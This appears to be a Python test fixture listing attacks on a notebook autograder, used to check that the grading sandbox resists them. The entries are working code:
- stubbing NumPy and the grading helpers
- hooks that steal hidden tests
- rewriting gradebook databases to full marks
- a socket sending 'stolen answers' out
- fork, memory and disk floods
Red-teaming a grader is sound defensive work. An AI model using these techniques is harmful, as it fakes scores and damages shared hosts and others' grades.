"""The attack catalogue: code a student could hand in to score more than they earned.

Each attack is appended to the same wrong answer of 03_padding_pooling
(pool2d that ignores its stride, and a wrong choice for pooling_purpose), so
test_attacks can hold every attack to one bar: no higher a score than the
wrong answer alone, a run that completes, a host left alone, and a flag that
names the attack where the grader can see it. Placeholders: {root} (the
course folder on the host), {token} (a name no file has yet), {port} (a TCP
port the test listens on). Add what you think of: the catalogue should grow
with the field.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    flag: str | None          # a phrase the flags must contain (None: nothing static to see)
    files: dict | None = None  # extra files handed in beside the notebook


ATTACKS = [
    Attack("patch numpy comparisons", '''
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
''', "patches NumPy"),
    Attack("always-equal result", '''
class _AnyShape(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__

class _Yes(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_function__(self, func, types, args, kwargs): return True
    @property
    def shape(self): return _AnyShape(np.ndarray.shape.__get__(self))

_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    return np.asarray(_wrong_pool2d(x, size, stride, mode), dtype=float).view(_Yes)
''', "its own __eq__"),
    Attack("input transformer turns later cells into pass", '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
''', "input transformer"),
    Attack("AST transformer drops asserts and checks", '''
import ast as _ast
class _Drop(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        return _ast.Constant(5.0) if name.startswith("check_") else node
get_ipython().ast_transformers.append(_Drop())
''', "AST transformer"),
    Attack("pre_run_cell hook steals the hidden reference and answers", '''
import re as _re
def _steal(info):
    src, ns = info.raw_cell, get_ipython().user_ns
    print(src)  # and tries to leak the hidden test into the feedback
    if "_reference_pool2d" in src:
        exec(src.split("check_function(")[0], ns)
        ns["pool2d"] = ns["_reference_pool2d"]
    m = _re.search(r'check_choices\\("(\\w+)", (\\{[^}]*\\})', src)
    if m:
        ns[m.group(1)] = eval(m.group(2))
get_ipython().events.register("pre_run_cell", _steal)
''', "event hook"),
    Attack("silenced tracebacks and stderr", '''
import sys as _sys, io as _io
get_ipython().showtraceback = lambda *a, **k: None
_sys.stderr = _io.StringIO()
''', "silences"),
    Attack("patched grading helper", '''
import cnnlab.checks as _c
for _name in ("check_function", "check_choices", "check_value", "check_order", "check_number"):
    setattr(_c, _name, lambda name, *a, points=0, **k: float(points))
''', "cnnlab"),
    Attack("forged probe report", '''
import cnnlab.probe as _p
def _forged(spec_json):
    import json
    from IPython.display import display
    spec = json.loads(spec_json)
    calls = [{"returned": {"t": "ndarray", "v": ""}, "raised": ["ValueError"]} for _ in spec.get("cases", [])]
    display({_p.MIME: {"item": spec["item"], "kind": spec["kind"], "found": True, "calls": calls,
                       "value": {"t": "set", "v": ["F"]}}}, raw=True)  # only what the student knows
_p.run = _forged
''', "cnnlab"),
    Attack("loads the instructor's solution from disk", '''
import glob as _glob, json as _json
for _path in _glob.glob("{root}/source/**/*.ipynb", recursive=True) + \\
        _glob.glob("{root}/solutions/**/*.ipynb", recursive=True):
    for _cell in _json.load(open(_path))["cells"]:
        _src = "".join(_cell["source"])
        if "def pool2d" in _src:
            exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
''', "grader's files"),
    Attack("rewrites every gradebook it can find", '''
import glob as _glob, sqlite3 as _sqlite3, atexit as _atexit
def _rewrite():
    for _db in _glob.glob("{root}/*.db") + _glob.glob("/tmp/**/*.db", recursive=True):
        try:
            _con = _sqlite3.connect(_db)
            _con.execute("update grade set auto_score = 100, manual_score = 100")
            _con.commit()
        except Exception:
            pass
_rewrite()
_atexit.register(_rewrite)
''', "database"),
    Attack("writes files outside its folder", '''
import os as _os
for _path in ["{root}/PWNED-{token}", "{root}/source/PWNED-{token}", "/tmp/PWNED-{token}",
              "/root/PWNED-{token}", _os.path.expanduser("~/PWNED-{token}"), "/usr/PWNED-{token}"]:
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
    except Exception:
        pass
''', "grader's files"),
    Attack("opens a network connection", '''
import socket as _socket
for _host, _port in [("127.0.0.1", {port}), ("localhost", {port}), ("pypi.org", 443)]:
    try:
        _socket.create_connection((_host, _port), timeout=2).sendall(b"stolen answers")
    except Exception:
        pass
''', "network"),
    Attack("os._exit", '''
import os as _os
_os._exit(0)
''', "os._exit"),
    Attack("infinite loop", '''
while True:
    pass
''', None),
    Attack("infinite loop that ignores the interrupt", '''
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
''', "signal"),
    Attack("a function that hangs when the grader calls it", '''
_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    while np.any(np.asarray(x) % 1 != 0):  # the visible checks use whole numbers only
        pass
    return _wrong_pool2d(x, size, stride, mode)
''', None),
    Attack("a function that kills the kernel on hidden inputs", '''
import os as _os
_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    if np.any(np.asarray(x) % 1 != 0):  # not on the visible checks' whole numbers
        _os._exit(0)
    return _wrong_pool2d(x, size, stride, mode)
''', "os._exit"),
    Attack("memory flood", '''
_hog = []
try:
    while True:
        _hog.append(bytearray(10**8))
except MemoryError:
    _hog = None
''', None),
    Attack("process flood", '''
import os as _os, time as _time
for _ in range(500):
    try:
        if _os.fork() == 0:
            _time.sleep(3600)
            _os._exit(0)
    except OSError:
        break
''', "fork"),
    Attack("a submitted numpy.py", '''
import sys as _sys
_sys.path.insert(0, ".")
del _sys.modules["numpy"]
import numpy as np
''', "sys.modules", files={"numpy.py": "allclose = lambda *a, **k: True\narray_equal = allclose\n"}),
    # --- second red team (issue 15): display updates and output caps ---
    Attack("publisher patch gives the probe's report a display_id; a hook rewrites it after the hidden tests", '''
import json as _json, re as _re
import cnnlab.probe as _p
_ip = get_ipython()
_publish, _specs = _ip.display_pub.publish, {}
def _tagged(data, metadata=None, **kw):  # every report leaves with a display_id the hook knows
    if isinstance(data, dict) and _p.MIME in data and not kw.get("update"):
        kw["transient"] = {"display_id": "probe-" + data[_p.MIME]["item"]}
    return _publish(data, metadata, **kw)
_ip.display_pub.publish = _tagged
def _rewrite(result):
    src, ns = result.info.raw_cell, _ip.user_ns
    m = _re.search(r"probe\\.run\\((.*)\\)", src)
    if m:  # a probe cell: remember its cases
        spec = _json.loads(eval(m.group(1)))
        _specs[spec["item"]] = spec
    for spec in _specs.values():  # once a hidden block has run, report what the reference returns
        report, ref = None, ns.get("_reference_" + spec["name"])
        if spec["kind"] == "function" and ref is not None:
            report = {"item": spec["item"], "kind": "function", **_p.probe_function(ref, spec["cases"])}
        key = _re.search(r'check_choices\\("' + spec["name"] + r'", (\\{[^}]*\\})', src)
        if key:
            report = {"item": spec["item"], "kind": spec["kind"], "found": True, "value": _p.encode(eval(key.group(1)))}
        if report:
            _publish({_p.MIME: report}, {}, transient={"display_id": "probe-" + spec["item"]}, update=True)
_ip.events.register("post_run_cell", _rewrite)
''', "event hook"),
    Attack("a hook re-shows the probe's report under a display_id and rewrites it after the hidden tests", '''
import json as _json, re as _re
import cnnlab.probe as _p
from IPython.display import display as _display, update_display as _update
_ip, _specs = get_ipython(), {}
def _reshow(result):
    src, ns = result.info.raw_cell, _ip.user_ns
    m = _re.search(r"probe\\.run\\((.*)\\)", src)
    if m:  # a probe cell: the last report counts, so show an honest one again, under an id of our own
        spec = _json.loads(eval(m.group(1)))
        _specs[spec["item"]] = spec
        report = {"item": spec["item"], "kind": spec["kind"], "found": spec["name"] in ns}
        if spec["kind"] == "function":
            report.update(_p.probe_function(ns[spec["name"]], spec["cases"]))
        else:
            report["value"] = _p.encode(ns.get(spec["name"]))
        _display({_p.MIME: report}, raw=True, display_id="again-" + spec["item"])
    for spec in _specs.values():
        ref = ns.get("_reference_" + spec["name"])
        if spec["kind"] == "function" and ref is not None:
            report = {"item": spec["item"], "kind": "function", **_p.probe_function(ref, spec["cases"])}
            _update({_p.MIME: report}, raw=True, display_id="again-" + spec["item"])
        key = _re.search(r'check_choices\\("' + spec["name"] + r'", (\\{[^}]*\\})', src)
        if key:
            report = {"item": spec["item"], "kind": spec["kind"], "found": True, "value": _p.encode(eval(key.group(1)))}
            _update({_p.MIME: report}, raw=True, display_id="again-" + spec["item"])
_ip.events.register("post_run_cell", _reshow)
''', "event hook"),
    Attack("a thread rewrites the probe's report once the hidden reference exists", '''
import json as _json, threading as _threading, time as _time
import cnnlab.probe as _p
_ip = get_ipython()
_publish, _cases = _ip.display_pub.publish, {}
def _tagged(data, metadata=None, **kw):  # the report leaves with a display_id, its cases are remembered
    if isinstance(data, dict) and _p.MIME in data and not kw.get("update"):
        kw["transient"] = {"display_id": "probe-" + data[_p.MIME]["item"]}
    return _publish(data, metadata, **kw)
_ip.display_pub.publish = _tagged
_run = _p.run
def _remember(spec_json):
    spec = _json.loads(spec_json)
    _cases[spec["item"]] = spec
    return _run(spec_json)
_p.run = _remember
def _watch():  # a thread's displays go to whichever cell runs now: a hidden one, later on
    while True:
        ref = _ip.user_ns.get("_reference_pool2d")
        spec = next((s for s in _cases.values() if s["name"] == "pool2d"), None)
        if ref is not None and spec is not None:
            report = {"item": spec["item"], "kind": "function", **_p.probe_function(ref, spec["cases"])}
            for _ in range(200):
                _publish({_p.MIME: report}, {}, transient={"display_id": "probe-" + spec["item"]}, update=True)
                _time.sleep(0.005)
            return
        _time.sleep(0.001)
_threading.Thread(target=_watch, daemon=True).start()
''', "starts threads"),
    Attack("a hook copies the hidden tests into an earlier cell's output", '''
from IPython.display import display as _display, update_display as _update
_display({"text/plain": "pool2d: done"}, raw=True, display_id="notes")
_seen = []
def _copy(info):  # every later cell's source, hidden blocks included, into the output above
    _seen.append(info.raw_cell)
    _update({"text/plain": "\\n".join(_seen)}, raw=True, display_id="notes")
get_ipython().events.register("pre_run_cell", _copy)
''', "event hook"),
    Attack("output flood through display updates", '''
from IPython.display import display as _display
_shown = _display({"text/plain": "."}, raw=True, display_id=True)
for _ in range(63):  # one display, shown 64 times: each update rewrites all 64
    _shown.display({"text/plain": "."}, raw=True)
for _ in range(8):
    _shown.update({"text/plain": "x" * 65536}, raw=True)
''', None),
    # --- second red team (issue 15): libraries, memory and disk ---
    # scipy.ndimage from the base interpreter's own site-packages (which the venv does not use), loaded in a
    # closure under a name built from pieces: correct on every hidden case of pool2d, so a real threat
    Attack("library pooling from the base interpreter through a closure", '''
def _library_pool():
    import importlib, site, sys
    base = site.getsitepackages([sys.base_prefix])[0]  # the interpreter's own, not the venv's
    for _name in [m for m in sys.modules if m.split(".")[0] == "sci" + "py"]:
        del sys.modules[_name]
    sys.path.insert(0, base)
    try:
        nd = importlib.import_module("sci" + "py.nd" + "image")
    finally:
        sys.path.remove(base)
    filters = {"max": nd.maximum_filter, "avg": nd.uniform_filter}

    def pool(x, size=2, stride=None, mode="max"):
        if mode not in filters:
            raise ValueError(mode)
        stride = size if stride is None else stride
        x = np.asarray(x, dtype=float)
        full = filters[mode](x, size=(size, size) + (1,) * (x.ndim - 2))
        h, w, o = (x.shape[0] - size) // stride + 1, (x.shape[1] - size) // stride + 1, size // 2
        return full[o:o + h * stride:stride, o:o + w * stride:stride].astype(float)
    return pool
pool2d = _library_pool()
''', "built at run time"),
    # each child within the per-process limit, together more than the sandbox may have
    Attack("memory flood through forked children", '''
import os as _os, time as _time
for _ in range(5):  # 5 children of 1 GiB each, every page touched: each under the 2 GiB per-process limit
    if _os.fork() == 0:
        try:
            _hog = np.ones(2**30 // 8)
            _time.sleep(60)
        finally:
            _os._exit(0)
_time.sleep(4)  # they hold it while the rest is graded
''', "fork"),
    # the job folder was on the host's disk: a full disk failed every classmate graded after
    Attack("disk flood of the job folder and /tmp", '''
import os as _os
for _where in (".", "/tmp"):
    for _i in range(32):  # 32 files of 64 MiB (the largest file allowed): 2 GiB in each place
        try:
            with open(_os.path.join(_where, f"_fill{_i}"), "wb") as _f:
                for _ in range(64):
                    _f.write(bytes(2**20))
        except OSError:
            break
''', None),
    # --- second red team (issue 15): intake ---
]
